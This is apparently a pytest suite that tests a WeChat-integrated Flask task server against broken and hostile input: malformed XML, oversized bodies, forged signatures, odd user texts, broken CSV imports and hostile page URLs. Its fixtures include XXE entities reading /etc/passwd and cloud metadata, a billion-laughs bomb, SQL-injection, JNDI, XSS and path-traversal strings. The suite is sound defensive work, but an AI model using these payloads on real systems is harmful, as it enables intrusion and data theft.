"""Bad input through the real HTTP server (issue 8): broken and hostile XML, huge bodies, invalid
UTF-8, wrong methods, forged and replayed signatures, odd texts, every 派发 field wrong, broken
CSV imports, hostile page URLs.

For every input: a clear answer (Chinese to users), no 5xx, the server still up afterwards and
no partial write. Each test counts its inputs into test-artifacts/reliability-figures.json.
"""
from __future__ import annotations

import re
import socket
import time
from collections import Counter
from datetime import datetime, timedelta
from urllib.parse import urlencode

import pytest
import requests
from sqlalchemy import func, select, text

from models import Base
from models.clock import BEIJING
from models.tasks import Task, TaskRecipient
from models.vocab import COLLEGE, MINISTRY, SCHOOL
from tests import wechat_crypto
from tests.reliability import record_figures
from tests.wechat_client import event_xml, new_openid, text_xml

APOLOGY = "抱歉，系统暂时出了点问题"
CHINESE = re.compile(r"[\u4e00-\u9fff]")
REPLY_LIMIT = 600
LEDGER: Counter = Counter()


@pytest.fixture(scope="module", autouse=True)
def _figures():
    yield
    record_figures("bad_input", inputs=sum(v for k, v in LEDGER.items() if k.startswith("n:")),
                   http_5xx=LEDGER["5xx"], crashes=LEDGER["crash"], partial_writes=LEDGER["partial"],
                   by_category={k[2:]: v for k, v in sorted(LEDGER.items()) if k.startswith("n:")})


def count(category: str, n: int = 1) -> None:
    LEDGER["n:" + category] += n


def no_5xx(resp: requests.Response, what: str) -> None:
    if resp.status_code >= 500:
        LEDGER["5xx"] += 1
    assert resp.status_code < 500, (what, resp.status_code, resp.text[:300])
    assert "Traceback" not in resp.text and 'File "/' not in resp.text, what


def still_up(base: str) -> None:
    try:
        ok = requests.get(base + "/healthz", timeout=5).status_code == 200
    except requests.RequestException:
        ok = False
    if not ok:
        LEDGER["crash"] += 1
    assert ok, "the server stopped answering"


def clear_reply(reply, what: str) -> str:
    """A user-facing answer: 200, a text, in Chinese, not the internal-error apology, phone-sized."""
    assert reply.status == 200 and reply.content, (what, reply.status, reply.body[:200])
    content = reply.content
    assert CHINESE.search(content), (what, content)
    assert APOLOGY not in content, (what, content)
    assert "Traceback" not in content and "Error" not in content, (what, content)
    assert len(content) <= REPLY_LIMIT, (what, len(content), content[:100])
    return content


BUSINESS_TABLES = ("tasks", "task_recipients", "notifications", "accounts", "identities", "graduates",
                   "units", "majors", "audit_log", "account_cohorts", "task_urges")


def snapshot(app) -> dict:
    engine = app.extensions["fdy.db"].engine
    names = [t for t in BUSINESS_TABLES if t in Base.metadata.tables]
    with engine.connect() as conn:
        return {t: conn.execute(text(f"SELECT COUNT(*) FROM {t}")).scalar() for t in names}


def unchanged(app, before: dict, what: str) -> None:
    after = snapshot(app)
    if after != before:
        LEDGER["partial"] += 1
    assert after == before, (what, {k: (before[k], after[k]) for k in before if before[k] != after[k]})


# -- people ---------------------------------------------------------------------------------------
@pytest.fixture
def people(factory, simulator):
    school = factory.school(name="输入大学")
    college = factory.college(school, name="计算机学院")
    factory.college(school, name="软件学院")
    major = factory.major(college, name="软件工程")
    ids = {"unbound": new_openid(), "counselor": new_openid(), "college": new_openid(), "school": new_openid(),
           "ministry": new_openid()}
    counselor = factory.counselor(college, name="输入辅导员", majors=[major], openid=ids["counselor"])
    staff = factory.staff(COLLEGE, college, name="院系老师", openid=ids["college"])
    factory.staff(SCHOOL, school, name="学校老师", openid=ids["school"])
    factory.staff(MINISTRY, factory.ministry(), name="部里老师", openid=ids["ministry"])
    for openid in ids.values():
        simulator.add_user(openid)
    from models.dispatch import Draft, create_task

    task, _, _ = create_task(factory.session, staff, Draft(title="输入测试任务", type="其他", cohort=2026,
                                                           levels=["本科"], content="内容"))
    factory.commit()
    ids["task"] = task.id
    ids["counselor_id"] = counselor.id
    return ids


# -- 1. hostile and broken XML -----------------------------------------------------------------------
def valid_xml(openid="oBADINPUT000000000000000000x") -> str:
    return text_xml(openid, "帮助", msg_id=123456789)


BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                            for i in range(1, 10))
                  + ']><xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>'
                    '<MsgType>text</MsgType><Content>&lol9;</Content><MsgId>1</MsgId></xml>')
XXE_FILE = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml>'
            '<ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>'
            '<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>2</MsgId></xml>')
XXE_PARAM = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd">%p;]>'
             '<xml><MsgType>text</MsgType><FromUserName>b</FromUserName></xml>')
XXE_HTTP = ('<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
            '<xml><FromUserName>b</FromUserName><MsgType>text</MsgType><Content>&e;</Content></xml>')


def hostile_bodies() -> list[tuple[str, bytes]]:
    base = valid_xml().encode()
    bodies = [(f"truncated at {cut}", base[:cut]) for cut in range(0, len(base), max(1, len(base) // 24))]
    bodies += [
        ("billion laughs", BILLION_LAUGHS.encode()),
        ("xxe file", XXE_FILE.encode()),
        ("xxe parameter entity", XXE_PARAM.encode()),
        ("xxe http", XXE_HTTP.encode()),
        ("doctype lower case", XXE_FILE.replace("DOCTYPE", "doctype").encode()),
        ("doctype utf-16", XXE_FILE.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
         .encode("utf-16")),
        ("entity utf-16 no declaration", XXE_FILE.encode("utf-16")),
        ("utf-32", valid_xml().encode("utf-32")),
        ("declared gbk", valid_xml().replace("<xml>", '<?xml version="1.0" encoding="gbk"?><xml>', 1)
         .replace("帮助", "帮助").encode("gbk")),
        ("declared unknown encoding", ('<?xml version="1.0" encoding="x-nope"?>' + valid_xml()).encode()),
        ("not xml", b"hello"),
        ("json", b'{"MsgType": "text", "Content": "\\u5e2e\\u52a9"}'),
        ("empty", b""),
        ("whitespace", b"   \n\t  "),
        ("wrong root", b"<notxml><MsgType>text</MsgType></notxml>"),
        ("two roots", base + base),
        ("unclosed cdata", base.replace(b"]]></FromUserName>", b"</FromUserName>")),
        ("invalid utf-8 content", base.replace("帮助".encode(), b"\xff\xfe\xfa")),
        ("invalid utf-8 sender", base.replace(b"oBADINPUT", b"\xc3\x28BAD")),
        ("overlong utf-8", base.replace("帮助".encode(), b"\xc0\xaf")),
        ("nul byte", base.replace("帮助".encode(), b"\x00")),
        ("control chars", base.replace("帮助".encode(), b"\x01\x02\x1b[31m")),
        ("lone surrogate", base.replace("帮助".encode(), b"\xed\xa0\x80")),
        ("deep nesting", b"<xml>" + b"<a>" * 5000 + b"</a>" * 5000 + b"</xml>"),
        ("many elements", b"<xml>" + b"<a/>" * 12000 + b"</xml>"),
        ("attributes", b'<xml a="1" b="2"><MsgType t="x">text</MsgType><FromUserName>o</FromUserName></xml>'),
        ("processing instruction", b'<?evil cmd="rm"?>' + base),
        ("no MsgType", base.replace(b"<MsgType><![CDATA[text]]></MsgType>", b"")),
        ("no sender", base.replace(b"<FromUserName><![CDATA[oBADINPUT000000000000000000x]]></FromUserName>", b"")),
        ("unknown MsgType", base.replace(b"CDATA[text]", b"CDATA[hologram]")),
        ("CreateTime not a number", base.replace(b"<CreateTime>", b"<CreateTime>soon")),
        ("MsgId not a number", base.replace(b"<MsgId>123456789", b"<MsgId>abc")),
        ("MsgId huge", base.replace(b"<MsgId>123456789", b"<MsgId>" + b"9" * 300)),
        ("Content twice", base.replace(b"<MsgId>", b"<Content>again</Content><MsgId>")),
        ("Content nested element", base.replace(b"<Content>", b"<Content><b>x</b>")),
        ("MsgType nested element", base.replace(b"<MsgType><![CDATA[text]]></MsgType>",
                                                b"<MsgType><x>text</x></MsgType>")),
        ("event without Event", event_xml("oBADINPUT000000000000000000x", "").encode()
         .replace(b"<Event><![CDATA[]]></Event>", b"")),
        ("event unknown", event_xml("oBADINPUT000000000000000000x", "TELEPORT", "k").encode()),
        ("click without key", event_xml("oBADINPUT000000000000000000x", "CLICK").encode()),
        ("click huge key", event_xml("oBADINPUT000000000000000000x", "CLICK", "K" * 5000).encode()),
        ("location garbage", event_xml("oBADINPUT000000000000000000x", "LOCATION",
                                       extra="<Latitude>north</Latitude><Longitude>1e999</Longitude>").encode()),
        ("image without url", base.replace(b"CDATA[text]", b"CDATA[image]")),
        ("cdata terminator in content", base.replace("帮助".encode(), "帮助]]]]><![CDATA[>".encode())),
    ]
    return bodies


def test_hostile_and_broken_xml(wechat, live_server, app):
    before = snapshot(app)
    statuses = Counter()
    for name, body in hostile_bodies():
        resp = wechat.post(body)
        no_5xx(resp, name)
        statuses[resp.status_code] += 1
        if resp.status_code == 200 and resp.text.startswith("<xml"):
            reply = wechat.parse(resp)
            if reply.msg_type == "text":
                clear_reply(reply, name)
        count("xml")
    still_up(live_server)
    unchanged(app, before, "hostile xml")
    # Entities never get expanded or fetched: all refused before parsing.
    for body in (BILLION_LAUGHS, XXE_FILE, XXE_PARAM, XXE_HTTP):
        assert wechat.post(body).status_code == 400
        count("xml")


def test_entity_in_utf16_is_refused(wechat):
    """The DOCTYPE check must not be dodged by another encoding."""
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        body = XXE_FILE.encode(encoding)
        resp = wechat.post(body)
        no_5xx(resp, encoding)
        assert resp.status_code == 400 and "root:" not in resp.text, (encoding, resp.status_code, resp.text[:200])
        count("xml")


def test_same_hostile_xml_inside_safe_mode(wechat, app, live_server):
    before = snapshot(app)
    for name, body in hostile_bodies()[-30:]:
        try:
            inner = body.decode("utf-8")
        except UnicodeDecodeError:
            continue
        resp = wechat.post(inner, encrypted=True)
        no_5xx(resp, "aes " + name)
        count("xml-aes")
    # Broken envelopes.
    params = wechat.signed_params()
    for name, envelope in [("not base64", "<xml><Encrypt>%%%%</Encrypt></xml>"),
                           ("short", "<xml><Encrypt>YWJj</Encrypt></xml>"),
                           ("no Encrypt", "<xml><ToUserName>x</ToUserName></xml>"),
                           ("Encrypt twice", "<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>"),
                           ("Encrypt element", "<xml><Encrypt><a>1</a></Encrypt></xml>")]:
        enc = re.search(r"<Encrypt>(.*?)</Encrypt>", envelope)
        sig = wechat_crypto.sha1_signature(wechat.token, params["timestamp"], params["nonce"],
                                           enc.group(1) if enc else "")
        resp = wechat.post(envelope, params=dict(params, encrypt_type="aes", msg_signature=sig))
        no_5xx(resp, name)
        assert resp.status_code in (400, 403), (name, resp.status_code)
        count("xml-aes")
    resp = wechat.post(valid_xml(), params=dict(wechat.signed_params(), encrypt_type="rot13"))
    assert resp.status_code == 400
    count("xml-aes")
    still_up(live_server)
    unchanged(app, before, "safe mode")


# -- 2. sizes -----------------------------------------------------------------------------------------
def raw_post(base: str, params: dict, headers: dict, body: bytes, last: bool = False) -> tuple[int, bytes]:
    """POST over a plain socket: the headers and exactly `body`, then the whole answer.

    Only part of a big body is ever sent: an answer proves the server did not wait for the
    rest, and nothing is left unsent for the server to reset the connection over (which is
    how a client library's error could hide the status). `last`: nothing more will come (the
    server may read to the end of the stream)."""
    host, port = base.split("//", 1)[1].split(":")
    head = [f"POST /wechat?{urlencode(params)} HTTP/1.1", f"Host: {host}:{port}", "Connection: close",
            *[f"{name}: {value}" for name, value in headers.items()]]
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode() + body)
        if last:
            sock.shutdown(socket.SHUT_WR)
        answer = b""
        try:
            while chunk := sock.recv(65536):
                answer += chunk
        except TimeoutError:
            raise AssertionError(f"no answer within 30 s: the server waits for the body ({answer[:100]!r})") from None
    status_line, _, rest = answer.partition(b"\r\n")
    assert status_line.startswith(b"HTTP/1."), answer[:200]
    return int(status_line.split()[1]), rest


def test_big_bodies_refused_without_reading_them(wechat, app, live_server):
    cap = app.config["WEBHOOK_MAX_BODY"]
    assert cap == 64 * 1024
    for size in (cap + 1, 1024 * 1024, 10 * 1024 * 1024):
        # The length is declared: refused before a byte of the body is read (none is sent).
        status, rest = raw_post(live_server, wechat.signed_params(), {"Content-Length": size}, b"")
        assert status == 413, (size, status, rest[:300])
        count("size")
    # Chunked, no length, a body that goes on: the cap is enforced while reading (the first
    # chunk already passes it; the body is never finished).
    status, rest = raw_post(live_server, wechat.signed_params(), {"Transfer-Encoding": "chunked"},
                            f"{cap + 1:x}\r\n".encode() + b"x" * (cap + 1) + b"\r\n")
    assert status == 413, ("chunked", status, rest[:300])
    count("size")
    # A lying Content-Length (small header, big body): only the declared bytes are read, and
    # they are not a message.
    body = text_xml(new_openid(), "x" * 200_000).encode()
    status, rest = raw_post(live_server, wechat.signed_params(), {"Content-Length": 100}, body, last=True)
    assert status == 400, (status, rest[:300])
    count("size")
    still_up(live_server)


# -- 3. methods, signatures, timestamps, replays -----------------------------------------------------------
def test_wrong_methods(wechat, live_server):
    url = wechat.base_url + "/wechat"
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND"):
        resp = wechat.http.request(method, url, params=wechat.signed_params(), data=valid_xml(), timeout=10)
        no_5xx(resp, method)
        if method == "OPTIONS":  # Flask's standard answer: the allowed methods, no body
            assert resp.status_code == 200 and not resp.text and "POST" in resp.headers["Allow"]
        else:
            assert resp.status_code in (400, 405, 501), (method, resp.status_code)
        count("method")
    resp = wechat.http.head(url, timeout=10)
    no_5xx(resp, "HEAD")
    assert resp.status_code in (400, 403, 405)
    count("method")
    for path in ("/wechat/", "/wechat/../healthz", "/WECHAT", "/wechat;x", "/%77echat"):
        resp = wechat.http.post(wechat.base_url + path, params=wechat.signed_params(), data=valid_xml(), timeout=10)
        no_5xx(resp, path)
        count("method")
    still_up(live_server)


def test_forged_and_replayed_signatures(wechat, people, app, db, live_server):
    openid, task_id = people["counselor"], people["task"]
    xml = text_xml(openid, f"完成 {task_id}", msg_id=987654321)
    now = int(time.time())
    # Clear of the skew window by a minute: the server reads its clock a moment after ours,
    # so now + skew + 1 could land back inside it.
    outside = app.config["WEBHOOK_MAX_CLOCK_SKEW"] + 60
    good = wechat.signed_params()
    forged = [
        dict(good, signature="0" * 40),
        dict(good, signature=good["signature"].upper()),
        dict(good, signature=good["signature"][:-1]),
        dict(good, signature=good["signature"] + "0"),
        dict(good, signature=""),
        {k: v for k, v in good.items() if k != "signature"},
        {k: v for k, v in good.items() if k != "timestamp"},
        dict(good, nonce=good["nonce"] + "1"),
        dict(good, timestamp=str(int(good["timestamp"]) + 1)),
        dict(wechat.signed_params(timestamp=now - outside)),
        dict(wechat.signed_params(timestamp=now + outside)),
        dict(wechat.signed_params(timestamp=now - 86400 * 365)),
        dict(wechat.signed_params(timestamp=0)),
        dict(wechat.signed_params(timestamp=-1)),
        dict(good, timestamp="9" * 400),
        dict(good, timestamp="1.7e9"),
        dict(good, timestamp=" " + good["timestamp"]),
        dict(good, signature="é" * 40),
        dict(good, signature="x" * 10000),
        {"signature": ["a", "b"], "timestamp": good["timestamp"], "nonce": good["nonce"]},
    ]
    before = snapshot(app)
    for params in forged:
        resp = wechat.post(xml, params=params)
        no_5xx(resp, str(params)[:80])
        assert resp.status_code in (400, 403), (params, resp.status_code)
        count("signature")
    # GET verification with forged parameters never echoes.
    for params in forged[:8]:
        resp = wechat.http.get(wechat.base_url + "/wechat", params=dict(params, echostr="ECHO"), timeout=10)
        no_5xx(resp, "GET")
        assert "ECHO" not in resp.text
        count("signature")
    unchanged(app, before, "forged")
    done = select(TaskRecipient.completed_at).where(TaskRecipient.task_id == task_id,
                                                    TaskRecipient.account_id == people["counselor_id"])
    db.commit()
    assert db.scalar(done) is None, "a forged request changed data"

    # Replays of a genuine request: answered the same, handled once.
    first = wechat.parse(wechat.post(xml, params=good))
    db.commit()
    completed = db.scalar(done)
    assert completed is not None and "已完成" in clear_reply(first, "first")
    for _ in range(3):
        again = wechat.parse(wechat.post(xml, params=good))
        assert again.content == first.content
        count("replay")
    db.commit()
    assert db.scalar(done) == completed
    # The same genuine request replayed after the ±300 s window: refused.
    old = wechat.signed_params(timestamp=now - 400)
    assert wechat.post(xml, params=old).status_code == 403
    count("replay")
    still_up(live_server)


# -- 4. what people type ---------------------------------------------------------------------------------
ODD_TEXTS = [
    "😀", "😀" * 500, "完成 12 👍", "👍完成", "🇨🇳派发", "帮助" + "啊" * 2000, "a" * 2000, "1" * 2000, "完成 " + "9" * 2000,
    "完成 99999999999999999999", "完成 -1", "完成 0", "完成 1.5", "完成 ０", "完成 一", "完成 #", "完成#1e9",
    "任务 0", "任务 99999999999999999999", "进度 -3", "进度 1; DROP TABLE tasks;--", "未完成 ' OR '1'='1",
    "催办 1 OR 1=1", "撤销 1/**/OR/**/1=1", "' OR 1=1 --", "\"; DELETE FROM accounts; --", "Robert'); DROP TABLE units;--",
    "绑定 13800000000' OR '1'='1", "绑定 " + "1" * 2000, "绑定 +8613800000000", "绑定 138-0000-0000",
    "绑定 ' UNION SELECT password_hash FROM identities --", "解绑 ' OR 1=1", "诊断 13800000000 OR 1=1",
    "123456", "000000", "999999' OR 1=1", "%s%s%s%n", "{{7*7}}", "${jndi:ldap://x/a}", "<script>alert(1)</script>",
    "]]><xml>", "&amp;&lt;&#0;", "\u202e完成 1", "完\u200b成 1", "\ufeff帮助", "帮助\u0085", "\t\t", " ", "　",
    "ｈｅｌｐ", "HELP", "派发\n" + "标题：x\n" * 200, "添加辅导员 " + "张" * 2000 + " 13800000000 本科 软件工程",
    "添加辅导员 张三 13800000000 本科 " + ",".join(["不存在专业"] * 300), "添加院系账号 李四 12345 ' OR 1=1",
    "删除账号 ' OR 1=1 --", "删除账号 13800000000; DROP TABLE accounts", "修改届别 13800000000 1e9",
    "修改届别 13800000000 " + ",".join(str(2000 + i) for i in range(500)), "届别滚动 -2026", "届别滚动 99999",
    "账号 99999999999999999999", "账号 -1", "导入毕业生 ../../etc/passwd", "导入毕业生 /etc/passwd.csv",
    "导入毕业生 " + "a" * 2000 + ".csv", "发布菜单 ' OR 1=1",
]


@pytest.mark.parametrize("who", ["unbound", "counselor", "college", "school", "ministry"])
def test_odd_texts_get_clear_chinese_answers(wechat, people, app, live_server, who):
    openid = people[who]
    before = snapshot(app)
    for content in ODD_TEXTS:
        reply = wechat.text(openid, content)
        clear_reply(reply, f"{who}: {content[:40]!r}")
        count("text")
    still_up(live_server)
    unchanged(app, before, who)


def test_long_names_and_values_refused_cleanly(wechat, people, app):
    """Values longer than their columns must be refused with a reason, not fail in the database."""
    before = snapshot(app)
    cases = [
        f"添加辅导员 {'名' * 51} 13900000001 本科 软件工程",
        f"添加辅导员 张三 13900000002 本科 {'专' * 120}",
        f"添加院系账号 {'王' * 60} 13900000003 计算机学院",
    ]
    for content in cases:
        sender = people["school"] if content.startswith("添加院系") else people["college"]
        clear_reply(wechat.text(sender, content), content[:30])
        count("text")
    unchanged(app, before, "long values")


# -- 5. 派发 with every field wrong --------------------------------------------------------------------
def _local(days: int = 7) -> str:
    return (datetime.now(BEIJING) + timedelta(days=days)).strftime("%Y-%m-%d %H:%M")


GOOD_FIELDS = {"标题": "双选会", "类型": "招聘会", "届别": "2026", "层次": "本科", "范围": "计算机学院",
               "截止": None, "链接": "https://example.edu.cn/x", "保密": "否", "内容": "请通知学生。"}
BAD_VALUES = {
    "标题": ["", "长" * 65, "😀" * 65],
    "类型": ["", "宣讲", "直播", "政策;DROP TABLE tasks", "😀"],
    "届别": ["", "二六", "26", "1999", "2101", "20260", "2026.5", "-2026", "9" * 50],
    "层次": ["研究生", "本科,研究生", "' OR 1=1", "😀"],
    "范围": ["不存在学院", "计算机学院,不存在学院", "软件工程学院", "' OR 1=1 --", "学院" * 200],
    "截止": ["明天", "2026/13/45", "2026-02-30 10:00", "2020-01-01 10:00", "2026-11-30 25:61", "9" * 40],
    "链接": ["example.com", "javascript:alert(1)", "ftp://x/y", "http://", "https://" + "a" * 2000, "http://a b"],
    "保密": ["也许", "maybe", "2"],
    "内容": ["", "字" * 2001],
}


def dispatch_form(overrides: dict, drop: tuple = (), extra: str = "") -> str:
    fields = dict(GOOD_FIELDS, 截止=_local())
    fields.update(overrides)
    lines = ["派发"] + [f"{k}：{v}" for k, v in fields.items() if k not in drop and k != "内容"] + [extra] * bool(extra)
    if "内容" not in drop:
        lines.append(f"内容：{fields['内容']}")
    return "\n".join(line for line in lines if line is not None)


def test_every_dispatch_field_wrong(wechat, people, app, db):
    school = people["school"]
    assert "回复「确认」派发" in wechat.ask(school, dispatch_form({})), "the good form must pass"
    wechat.ask(school, "取消")
    before = snapshot(app)
    for name, values in BAD_VALUES.items():
        for value in values:
            reply = clear_reply(wechat.text(school, dispatch_form({name: value})), f"{name}={value[:20]}")
            assert "需要修改" in reply and f"{name}：" in reply, (name, value, reply)
            assert "没有待确认的派发" in wechat.ask(school, "确认"), (name, value)
            count("dispatch", 2)
    # Live-course time rules, duplicated and unknown fields, all wrong at once.
    live = [
        dispatch_form({"类型": "直播课"}),
        dispatch_form({"类型": "直播课"}, extra=f"开始：{_local(3)}"),
        dispatch_form({"类型": "直播课"}, extra=f"开始：{_local(3)}\n结束：{_local(2)}"),
        dispatch_form({}, extra="标题：又一个"),
        dispatch_form({}, extra="颜色：红"),
        dispatch_form({}, extra="这不是字段"),
        dispatch_form({k: v[-1] for k, v in BAD_VALUES.items()}),
    ]
    for form in live:
        reply = clear_reply(wechat.text(school, form), form[:40])
        assert "需要修改" in reply, reply
        assert "没有待确认的派发" in wechat.ask(school, "确认")
        count("dispatch", 2)
    everything = clear_reply(wechat.text(school, dispatch_form({k: v[-1] for k, v in BAD_VALUES.items()})), "all")
    # Every field is wrong: each is listed, or counted in the "……另有 N 处" that closes a long reply.
    assert everything.startswith(f"派发内容有 {len(BAD_VALUES)} 处需要修改"), everything
    cut = re.search(r"……另有 (\d+) 处", everything)
    listed = [k for k in BAD_VALUES if re.search(rf"^\d+\. {k}：", everything, re.M)]
    assert len(listed) + (int(cut.group(1)) if cut else 0) == len(BAD_VALUES), everything
    count("dispatch")
    # A college account naming a 范围, and a counselor trying to dispatch.
    assert "需要修改" in clear_reply(wechat.text(people["college"], dispatch_form({})), "college scope")
    assert "仅限" in clear_reply(wechat.text(people["counselor"], dispatch_form({})), "counselor")
    count("dispatch", 2)
    unchanged(app, before, "dispatch")
    db.commit()
    assert db.scalar(select(func.count()).select_from(Task)) == 1


# -- 6. CSV imports with broken encodings and columns ------------------------------------------------
HEADER = "学号,姓名,省份,学校,院系,专业,专业方向,学历层次,届别,毕业去向,就业意愿,求职期望,关注绑定"
GOOD_ROW = "S{n},学生{n},江苏省,导入大学,导入学院,软件工程,,本科,2026,协议就业,就业,南京,是"


def broken_files() -> list[tuple[str, bytes, int]]:
    """(file name, bytes, good rows it holds)."""
    good = "\n".join([HEADER] + [GOOD_ROW.format(n=i) for i in range(3)]) + "\n"
    return [
        ("gbk.csv", good.encode("gbk"), 0),
        ("utf16.csv", good.encode("utf-16"), 0),
        ("latin1.csv", good.encode("utf-8").decode("latin-1").encode("latin-1", "replace") + b"\xe9\xff", 0),
        ("bom.csv", "\ufeff".encode() + good.encode(), 3),
        # Not UTF-8 anywhere in the file: refused whole, with how to save it as UTF-8 (the good
        # rows before the bad bytes are not kept).
        ("half-gbk.csv", (good + GOOD_ROW.format(n=9) + "\n").encode("utf-8")[:-20] + "坏行".encode("gbk"), 0),
        ("binary.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, 0),
        ("empty.csv", b"", 0),
        ("header-only.csv", HEADER.encode(), 0),
        ("missing-columns.csv", "学号,姓名,省份\nS1,张三,江苏省\n".encode(), 0),
        ("renamed-column.csv", good.replace("毕业去向", "去向").encode(), 0),
        ("reordered.csv", ("姓名,学号" + HEADER[len("学号,姓名"):] + "\n" + "学生R,SR,江苏省,导入大学,导入学院,软件工程,,本科,"
                           "2026,升学,升学,,否\n").encode(), 1),
        # Header names are exact (SPEC 9.4): an unknown column refuses the file, naming it.
        ("extra-columns.csv", (HEADER + ",备注\n" + GOOD_ROW.format(n="X") + ",多余\n").encode(), 0),
        ("short-rows.csv", (HEADER + "\nS5,学生5,江苏省\n" + GOOD_ROW.format(n=6) + "\n").encode(), 1),
        ("long-rows.csv", (HEADER + "\n" + GOOD_ROW.format(n=7) + ",a,b,c,d\n").encode(), 1),
        ("semicolons.csv", good.replace(",", ";").encode(), 0),
        ("bad-values.csv", (HEADER + "\n" + "S8,学生8,江苏省,导入大学,导入学院,软件工程,,研究生,二六,失业,,,也许\n"
                            + "S9," + "名" * 300 + ",江苏省,导入大学,导入学院,软件工程,,本科,2026,升学,,,是\n"
                            + "'; DROP TABLE graduates;--,x,江苏省,导入大学,导入学院,软件工程,,本科,2026,升学,,,是\n"
                            ).encode(), 1),
        ("unbalanced-quote.csv", (HEADER + '\n"S10,学生10,江苏省\n' + GOOD_ROW.format(n=11) + "\n").encode(), 0),
        ("nul-bytes.csv", (HEADER + "\n" + GOOD_ROW.format(n=12) + "\n").encode().replace(b"S12", b"S\x0012"), 0),
        ("fake.xlsx", good.encode(), 0),
        ("zip.xlsx", b"PK\x03\x04" + b"\x00" * 100, 0),
        ("crlf.csv", good.replace("\n", "\r\n").encode(), 3),
        ("long-line.csv", (HEADER + "\n" + "S13," + "x" * 200000 + "\n").encode(), 0),
    ]


def test_broken_csv_imports_are_reported(wechat, people, app, simulator, run_jobs, tmp_path, db, live_server):
    app.config["IMPORT_DIR"] = str(tmp_path)
    ministry = people["ministry"]
    try:
        for name, data, good_rows in broken_files():
            (tmp_path / name).write_bytes(data)
            before = db.scalar(select(func.count()).select_from(text("graduates")))
            db.commit()
            result = simulator.send(ministry, text=f"导入毕业生 {name}")
            assert result.get("status") == 200, (name, result)
            assert CHINESE.search(result.get("content") or ""), (name, result)
            since = len(simulator.inbox(ministry, all=True))
            run_jobs()
            messages = [m for m in simulator.inbox(ministry) if m["kind"] == "custom"]
            assert messages, f"no import report for {name}"
            report = messages[-1]["content"]
            assert name in report and CHINESE.search(report), (name, report)
            db.commit()
            after = db.scalar(select(func.count()).select_from(text("graduates")))
            figures = re.search(r"新增 (\d+) 条，更新 (\d+) 条，错误 (\d+) 行", report)
            assert figures, (name, report)
            created, updated, errors = map(int, figures.groups())
            # Good rows are kept (new, or updates of a 学号 an earlier file brought), nothing else is.
            assert (after - before, created + updated) == (created, good_rows), (name, before, after, report)
            if name == "header-only.csv":  # no rows: nothing imported, nothing wrong
                assert (created, updated, errors) == (0, 0, 0), report
            elif good_rows < 3 and name not in ("reordered.csv", "long-rows.csv"):
                assert errors > 0 and "未导入" in report, (name, report)
            count("csv")
            del since
    finally:
        app.config.pop("IMPORT_DIR", None)
    still_up(live_server)


# -- 7. pages: hostile URLs and forms ----------------------------------------------------------------------
def page_client(base: str, simulator, openid: str) -> requests.Session:
    http = requests.Session()
    http.cookies.set("sim_openid", openid, domain="127.0.0.1")
    resp = http.get(base + "/auth/login", timeout=10)
    assert resp.status_code == 200, resp.text[:200]
    return http


def test_hostile_page_requests(live_server, simulator, people, app):
    before = snapshot(app)
    anonymous = requests.Session()
    logged = {who: page_client(live_server, simulator, people[who]) for who in ("counselor", "college", "unbound")}
    huge = "9" * 30
    paths = ["/tasks/", f"/tasks/{huge}", "/tasks/-1", "/tasks/abc", "/tasks/0", f"/tasks/{people['task']}",
             "/tasks/1%00", "/tasks/1'%20OR%201=1", f"/progress/{huge}", "/progress/-1", "/progress/",
             f"/progress/{people['task']}", "/progress/1?all=" + "x" * 3000, f"/share/{huge}", "/share/abc",
             "/share/1/" + "a" * 500, "/share/../../etc/passwd", "/stats?page=-1", f"/stats?page={huge}",
             "/stats?q=" + "%27%20OR%201%3D1--", "/stats?dest=" + "😀" * 100, "/stats?q=" + "x" * 5000,
             "/auth/callback?state=x&code=y", "/auth/callback?state=" + "a" * 3000, "/auth/callback",
             "/auth/login?next=//evil.example", "/auth/forgot?phone=' OR 1=1", "/healthz?x=" + "%ff" * 50,
             "/%ff%fe", "/" + "a/" * 500, "/static/../config/__init__.py", "/static/%2e%2e/wsgi.py"]
    for path in paths:
        for who, http in [("anonymous", anonymous)] + list(logged.items()):
            resp = http.get(live_server + path, timeout=10, allow_redirects=False)
            no_5xx(resp, f"{who} GET {path[:60]}")
            assert "SECRET" not in resp.text and "import " not in resp.text, path
            count("page")
    forms = [("/auth/login", {"login": "' OR 1=1 --", "password": "x"}),
             ("/auth/login", {"login": "a" * 100000, "password": "b" * 100000}),
             ("/auth/sms/send", {"phone": "1" * 5000}), ("/auth/sms/verify", {"phone": "x", "code": "😀"}),
             ("/auth/unbind", {}), ("/auth/forgot", {"phone": "\x00"}),
             (f"/tasks/{people['task']}/complete", {}), (f"/tasks/{huge}/complete", {"csrf": "x"}),
             (f"/tasks/{people['task']}/checkin", {"csrf": "forged"})]
    for path, data in forms:
        for who, http in [("anonymous", anonymous)] + list(logged.items()):
            resp = http.post(live_server + path, data=data, timeout=10, allow_redirects=False)
            no_5xx(resp, f"{who} POST {path}")
            count("page")
    # Binary and invalid UTF-8 form bodies.
    for who, http in logged.items():
        resp = http.post(live_server + "/auth/login", data=b"login=\xff\xfe&password=\xc0\xaf", timeout=10,
                         headers={"Content-Type": "application/x-www-form-urlencoded"})
        no_5xx(resp, f"{who} binary form")
        count("page")
    still_up(live_server)
    unchanged(app, before, "pages")
